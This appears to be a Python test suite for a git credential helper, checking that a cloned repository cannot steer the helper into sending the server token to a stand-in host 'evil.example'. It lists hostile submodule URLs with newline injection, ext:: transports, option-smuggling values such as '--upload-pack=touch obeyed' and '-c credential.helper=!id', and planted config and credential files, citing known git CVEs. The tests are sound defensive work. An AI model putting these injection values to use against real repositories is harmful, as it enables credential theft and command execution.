# SPDX-License-Identifier: Apache-2.0
"""A repository that was cloned in good faith: what it brings along chooses addresses, and tries to choose
more. It never gets the token of the server, and nothing in it reaches the helper but an address."""
import os

import gitattack
import loomtest
from gitattack import HOST, REPOSITORY, URL

# .gitmodules is git's configuration language: what stands in quotes arrives decoded.
HOSTILE = (
    f"https://evil.example?{URL}/git/ada/hello.git", f"https://{HOST}%0a.evil.example/x",
    f"https://{HOST}%0d.evil.example/x", f"https://evil.example/x%0ahost={HOST}",
    f"https://a%0ahost={HOST}@evil.example/x", f"https://a%0dhost={HOST}@evil.example/x",
    f"https://{HOST}@evil.example/x", f"https://{HOST}.evil.example/x", f"http://{HOST}{REPOSITORY}",
    "https:///x", f"https://{HOST}%00.evil.example/x", f"https::http://{HOST}/x",
    f"{URL}:8443/x", "https://evil.example/x\\nhost=loom.example.com",
    f"ext::sh -c echo% {HOST}",
    f"https://{HOST}:443%2f@evil.example/x",
)


class GitAttackSubmodules(gitattack.GitAttack):
    def bring(self, files, links=(), linked="hello"):
        """Put files and submodules into the repository that everybody clones."""
        seed = os.path.join(self.folder, "seed-ada-hello.git")
        for name, text in files.items():
            with open(os.path.join(seed, name), "w") as file:
                file.write(text)
        theirs = os.path.join(self.repos, f"ada/{linked}.git")
        head = self.git("rev-parse", "main", cwd=theirs).out.decode().strip()
        for path in links:
            self.git("update-index", "--add", "--cacheinfo", f"160000,{head},{path}", cwd=seed)
        self.git("add", *files, cwd=seed)
        self.git("commit", "-q", "-m", "Bring more", cwd=seed)
        self.git("push", "-q", os.path.join(self.repos, "ada/hello.git"), "main", cwd=seed)

    def bring_submodules(self, urls, **more):
        names = [f"m{number}" for number in range(len(urls))]
        text = "".join(f'[submodule "{name}"]\n\tpath = {name}\n\turl = "{url}"\n'
                       for name, url in zip(names, urls))
        self.bring({".gitmodules": text}, names, **more)
        return names

    def clone(self, *options, **more):
        return self.git(*options, "clone", "-q", URL + REPOSITORY, env={"SPY": self.new_spy()}, **more)

    def update(self, *names, options=(), at_once=5):
        """`git submodule update` of each: [what git asked for]"""
        found = []
        for at in range(0, len(names), at_once):
            running = [self.start_attack(*options, "submodule", "-q", "update", "--", name,
                                         cwd=os.path.join(self.work, "hello"))
                       for name in names[at:at + at_once]]
            found += [finish() for finish in running]
        for attack in found:
            self.assertNotEqual(attack.result.status, 0, attack)
        return found

    def questions(self, attacks):
        return [question for attack in attacks for question in attack.questions]

    def test_git_113_submodules_that_carry_more_than_an_address(self):
        """CVE-2020-5260, CVE-2020-11008, CVE-2024-52006"""
        names = self.bring_submodules(HOSTILE)
        self.clone()
        self.in_clone("submodule", "-q", "init")
        for options in ((), ("-c", "credential.protectProtocol=false",
                             "-c", "credential.useHttpPath=true", "-c", "protocol.allow=always")):
            asked = self.questions(self.update(*names, options=options))
            self.assertIn(b"evil.example", {question[b"host"] for question in asked})
            for question in asked:
                is_ours = question[b"host"] == HOST.encode()
                self.assertNotEqual((question[b"protocol"], is_ours), (b"https", True))
        self.assertIn("evil.example", self.stranger.hosts())

    def test_git_114_cloned_with_all_its_submodules(self):
        self.bring_submodules([f"https://{HOST}.evil.example/x"])
        result = self.git("clone", "-q", "--recurse-submodules", URL + REPOSITORY, status=None,
                          env={"SPY": self.new_spy()})
        self.assertIn("could not read Username", result.text)
        self.assertEqual(set(self.stranger.hosts()), {f"{HOST}.evil.example"})

    def test_git_115_options_in_what_a_repository_brings(self):
        """None of these files is configuration: neither git nor loom obeys it."""
        hostile = ('[credential]\n\thelper = "!touch \\"$HOME/obeyed\\""\n[http]\n'
                   f'\tproxy = {self.router.url}\n[url "https://evil.example/"]\n\tinsteadOf = {URL}/\n')
        self.bring({".lfsconfig": f"[lfs]\n\turl = https://evil.example/lfs\n{hostile}",
                    ".gitconfig": hostile, ".git-credentials": f"https://a:b@{HOST}\n",
                    ".loom": "server = https://evil.example\n", ".netrc": "default login a password b\n",
                    "credentials.json": "{}", ".gitmodules":
                    '[submodule "-c credential.helper=!id"]\n\tpath = x\n'
                    f'\turl = --upload-pack=touch obeyed\n[submodule "y"]\n\tpath = y\n'
                    f"\turl = -c credential.helper=!touch% obeyed {URL}\n{hostile}"}, ["x", "y"])
        self.clone()
        self.in_clone("fetch", "-q", env={"SPY": self.new_spy()})
        # From inside the repository the helper reads nothing of it either.
        folder = os.path.join(self.work, "hello")
        result = self.helper("get", {"protocol": "https", "host": HOST}, cwd=folder)
        self.assertEqual(self.answer(result)["password"], self.token)
        result = self.helper("get", {"protocol": "https", "host": "evil.example"}, cwd=folder)
        self.assertEqual(result.out, b"")
        self.git("submodule", "-q", "update", "--init", cwd=folder, status=None,
                 env={"SPY": self.new_spy()})
        for place in (self.home.path, folder):
            self.assertNotIn("obeyed", os.listdir(place))

    def test_git_116_a_configuration_of_the_repositorys_own_is_gits_business(self):
        """Whoever writes .git/config runs commands as you and may ask as git does: that is no attack on
        the helper, and nothing in a clone writes it. Here it only shows that nobody guards against it."""
        self.clone()
        self.in_clone("config", "credential.helper", "!echo quit=1; touch \"$HOME/was-run\";:")
        self.in_clone("config", "credential.https://evil.example.helper", "loom")
        attack = self.start_attack("ls-remote", "https://evil.example/x",
                                   cwd=os.path.join(self.work, "hello"))()
        self.assertTrue(os.path.exists(os.path.join(self.home.path, "was-run")), attack)
        self.check_asked(attack, host="evil.example")

    def test_git_117_relative_submodules_stay_with_the_server(self):
        """"../x" is the same server, and gets the token; "../../../../evil" cannot leave it."""
        self.make_repository("ada/other.git")
        names = self.bring_submodules(["../other.git", "../../../../../evil.example/x",
                                       f"../../../../{HOST}.evil.example/x"], linked="other")
        self.clone()
        folder = os.path.join(self.work, "hello")
        self.git("submodule", "-q", "init", cwd=folder)
        self.git("submodule", "-q", "update", "--", names[0], cwd=folder,
                 env={"SPY": self.new_spy()})
        self.assertTrue(os.path.exists(os.path.join(folder, names[0], ".git")))
        self.update(*names[1:])


if __name__ == "__main__":
    loomtest.main(3)
